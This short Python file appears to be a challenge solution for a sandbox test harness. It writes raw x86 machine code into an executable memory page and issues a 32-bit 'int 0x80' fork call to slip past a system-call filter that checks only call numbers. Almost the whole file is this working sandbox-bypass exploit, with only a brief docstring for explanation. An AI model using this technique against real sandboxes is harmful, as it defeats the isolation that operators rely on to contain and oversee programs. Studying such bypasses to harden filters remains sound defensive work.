"""Makes system calls by machine code of its own: as a 32-bit program would, under whose numbers `fork` is another.

Elsewhere: a filter that looks at the number and not at the kind of call.
"""

# %% solution="value"
import ctypes
import mmap
import os
import platform

from toolbox import reached, tell, won

SAYS = "attribute"
# push rbx; mov eax, 2 (fork in the 32-bit table); int 0x80; pop rbx; ret
CODE = b"\x53\xb8\x02\x00\x00\x00\xcd\x80\x5b\xc3"


def loot():
    reached()
    if platform.machine() != "x86_64":
        raise OSError("no other table here")
    page = mmap.mmap(-1, 4096, flags=mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS, prot=7)
    page.write(CODE)
    call = ctypes.CFUNCTYPE(ctypes.c_int)(ctypes.addressof(ctypes.c_char.from_buffer(page)))
    pid = call()
    if pid == 0:
        os._exit(0)
    if pid > 0:
        return won(f"forked {pid}")
    raise OSError(-pid, os.strerror(-pid))


def attribute(prompt, x):
    return tell(loot)
